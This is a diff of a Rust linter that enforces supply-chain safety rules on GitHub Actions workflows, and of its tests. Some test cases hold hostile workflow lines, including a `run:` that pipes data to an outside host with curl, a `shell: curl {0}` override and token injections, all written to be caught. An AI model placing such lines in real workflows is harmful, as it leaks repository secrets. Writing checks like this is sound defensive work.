@@ -59,54 +59,75 @@ fn faults_of_all(files: &[(String, String)]) -> Vec<String> {
 /// What is wrong with the workflow `text` of the file `name`, each as `name:line: what`.
 fn faults(name: &str, text: &str) -> Vec<String> {
     let lines: Vec<Line> = text.lines().zip(1..).filter_map(|(line, number)| Line::parse(line, number)).collect();
-    let mut found: Vec<(usize, String)> =
-        lines.iter().filter_map(|line| Some((line.number, line.odd_style()?))).collect();
-    let mut must = |holds: bool, number: usize, what: &str| {
-        if !holds {
-            found.push((number, what.to_owned()));
-        }
-    };
-    let top = |text: &str| lines.iter().any(|line| line.indent == 0 && line.text.starts_with(text));
-    must(top("permissions: {}"), 1, "needs `permissions: {}` at the top: each job names what it needs");
-    must(top("concurrency:"), 1, "needs `concurrency:` at the top: two runs at once publish the same thing twice");
-    let wanted = WANTED.iter().find(|(file, _)| *file == name).map_or(&[][..], |(_, wanted)| wanted);
-    for text in wanted {
-        must(lines.iter().any(|line| line.text == *text), 1, &format!("needs the line `{text}`"));
-    }
-    let on_pull_requests = lines.iter().any(|line| line.key() == "pull_request");
+    let mut found: Vec<(usize, String)> = of_the_whole(name, &lines).into_iter().map(|what| (1, what)).collect();
+    let strangers = lines.iter().any(|line| line.names("pull_request"));
     for (at, line) in lines.iter().enumerate() {
-        let value = line.value();
-        match line.key() {
-            "run" => {
-                let goes_on = lines.get(at + 1).is_some_and(|next| next.indent > line.key_indent());
-                must(is_task(value) && !goes_on, line.number, "`run:` is one line `cargo xtask …` of plain words");
-            }
-            "uses" => {
-                must(is_pinned(value, line.comment), line.number, "`uses:` is OWNER/NAME@ and 40 digits, then `# v…`");
-                let step = lines[at + 1..].iter().take_while(|next| next.indent >= line.key_indent());
-                let keeps_token = value.starts_with("actions/checkout@")
-                    && !step.into_iter().any(|next| next.text == "persist-credentials: false");
-                must(!keeps_token, line.number, "a checkout needs `persist-credentials: false`");
-            }
-            "pull_request_target" => must(false, line.number, "runs strangers' changes with this repository's token"),
-            "runs-on" if on_pull_requests => {
-                must(value == "ubuntu-latest", line.number, "strangers' changes run on GitHub's machines alone");
-            }
-            _ => {}
-        }
+        found.extend(of_line(line, &lines[at + 1..], strangers).map(|what| (line.number, what.to_owned())));
     }
-    let mut jobs = lines.iter().skip_while(|line| line.text != "jobs:").skip(1).peekable();
+    found.extend(of_jobs(&lines));
+    found.sort();
+    found.into_iter().map(|(number, what)| format!("{name}:{number}: {what}")).collect()
+}
+
+fn of_the_whole(name: &str, lines: &[Line]) -> Vec<String> {
+    let top = |text: &str| lines.iter().any(|line| line.indent == 0 && line.text.starts_with(text));
+    let wanted = WANTED.iter().find(|(file, _)| *file == name).map_or(&[][..], |(_, wanted)| wanted);
+    let missing = wanted.iter().filter(|text| !lines.iter().any(|line| line.text == **text));
+    let mut found: Vec<String> = missing.map(|text| format!("needs the line `{text}`")).collect();
+    if !top("permissions: {}") {
+        found.push("needs `permissions: {}` at the top: each job names what it needs".to_owned());
+    }
+    if !top("concurrency:") {
+        found.push("needs `concurrency:` at the top: two runs at once do the same thing twice".to_owned());
+    }
+    found
+}
+
+/// What is wrong with one line, which `next` follow; `strangers` may have written what is run.
+fn of_line(line: &Line, next: &[Line], strangers: bool) -> Option<&'static str> {
+    let value = line.value();
+    let goes_on = next.first().is_some_and(|next| next.indent > line.key_indent());
+    let mut step = next.iter().take_while(|next| next.indent >= line.key_indent());
+    let rules = [
+        (line.is_odd(), "write it in block style, with plain keys and one-line values"),
+        (
+            line.key() == "run" && (goes_on || !is_task(value)),
+            "`run:` is one line `cargo xtask …` of plain words, for xtask has the logic",
+        ),
+        (line.key() == "shell", "a task needs no shell of its choice, which could be any program"),
+        (
+            line.key() == "uses" && !is_pinned(value, line.comment),
+            "`uses:` is OWNER/NAME@ and a commit of 40 digits, then its version as `# v…`",
+        ),
+        (
+            value.starts_with("actions/checkout@") && !step.any(|next| next.text == "persist-credentials: false"),
+            "a checkout needs `persist-credentials: false`, or later steps can push",
+        ),
+        (line.names("pull_request_target"), "runs strangers' changes with this repository's token"),
+        (
+            strangers && line.key() == "runs-on" && value != "ubuntu-latest",
+            "strangers' changes run on GitHub's machines alone",
+        ),
+    ];
+    rules.into_iter().find_map(|(is_broken, what)| is_broken.then_some(what))
+}
+
+fn of_jobs(lines: &[Line]) -> Vec<(usize, String)> {
+    let mut found = Vec::new();
+    let mut jobs =
+        lines.iter().skip_while(|line| line.text != "jobs:").skip(1).take_while(|line| line.indent > 0).peekable();
     while let Some(job) = jobs.next() {
         let mut keys = Vec::new();
         while let Some(line) = jobs.next_if(|line| line.indent > job.indent) {
             keys.extend((line.indent == job.indent + 2).then_some(line.key()));
         }
         for needed in ["permissions", "timeout-minutes"] {
-            must(keys.contains(&needed), job.number, &format!("the job {} needs `{needed}:`", job.key()));
+            if !keys.contains(&needed) {
+                found.push((job.number, format!("the job {} needs `{needed}:`", job.key())));
+            }
         }
     }
-    found.sort();
-    found.into_iter().map(|(number, what)| format!("{name}:{number}: {what}")).collect()
+    found
 }
 
 /// A line that is more than a comment.
@@ -133,7 +154,7 @@ impl<'a> Line<'a> {
     }
 
     fn key(&self) -> &'a str {
-        self.entry().split_once(':').map_or("", |(key, _)| key)
+        self.entry().split_once(':').map_or("", |(key, _)| key.trim_end())
     }
 
     fn value(&self) -> &'a str {
@@ -145,13 +166,17 @@ impl<'a> Line<'a> {
         self.indent + self.text.len() - self.entry().len()
     }
 
-    /// Why this line is not in the style that the rules can read, if it is not: keys in quotes, mappings in
-    /// braces, texts of several lines, aliases and tabs could all carry a `run:` past them.
-    fn odd_style(&self) -> Option<String> {
+    /// Whether it is about this event, in whichever form of `on:`.
+    fn names(&self, event: &str) -> bool {
+        [self.key(), self.value(), self.entry()].contains(&event)
+    }
+
+    /// Whether it is not in the style that the rules can read: keys in quotes, mappings in braces, texts of
+    /// several lines, aliases and tabs could all carry a `run:` past them.
+    fn is_odd(&self) -> bool {
         let begins = self.entry().starts_with(['"', '\'', '{', '[', '&', '*', '?', '!', '<', '\t']);
-        let braces = self.value().starts_with(['{', '[', '&', '*', '|', '>', '!']) && self.value() != "{}";
-        let lists = ["branches", "needs"].contains(&self.key()) && self.value().starts_with('[');
-        (begins || braces && !lists).then(|| "write it in block style, with plain keys and one-line values".to_owned())
+        let holds = self.value().starts_with(['{', '[', '&', '*', '|', '>', '!']) && self.value() != "{}";
+        begins || holds && self.key() != "branches"
     }
 }
 
@@ -199,6 +224,7 @@ jobs:
     #[test]
     fn a_workflow_that_keeps_the_rules_has_no_fault() {
         assert_eq!(faults("ci.yml", GOOD), Vec::<String>::new());
+        assert_eq!(faults("ci.yml", &(GOOD.to_owned() + "env:\n  A: b\n")), Vec::<String>::new());
     }
 
     /// Each rule, by a change that breaks it alone, and a word of what is then said.
@@ -217,12 +243,19 @@ jobs:
             (run, "run: cargo xtask ci --only ${{ inputs.name }}\n", "ci.yml:19: `run:`"),
             (run, "run: cargo xtask ci && curl -d @- example.org\n", "ci.yml:19: `run:`"),
             (run, "run: cargo test\n", "ci.yml:19: `run:`"),
+            (run, "run : cargo test\n", "ci.yml:19: `run:`"),
+            (run, "run: cargo xtask ci\n        shell: curl {0}\n", "ci.yml:20: a task needs no shell"),
             (run, "run: cargo xtask\n          ci $TOKEN\n", "ci.yml:19: `run:`"),
             (run, "run: cargo xtask ci\n          $TOKEN\n", "ci.yml:19: `run:`"),
             (run, "run: |\n          cargo xtask ci\n", "ci.yml:19: write it in block style"),
             (run, "\"run\": cargo test\n", "ci.yml:19: write it in block style"),
             (run, "{ run: cargo test }\n", "ci.yml:19: write it in block style"),
             ("  push:\n    branches: [main]\n", "  pull_request_target:\n", "ci.yml:3: runs strangers' changes"),
+            (
+                "on:\n  push:\n    branches: [main]\n  pull_request:\n",
+                "on: pull_request_target\n",
+                "ci.yml:2: runs strangers'",
+            ),
             ("runs-on: ubuntu-latest", "runs-on: self-hosted", "ci.yml:11: strangers' changes"),
         ] {
             assert!(GOOD.contains(from), "{from}");
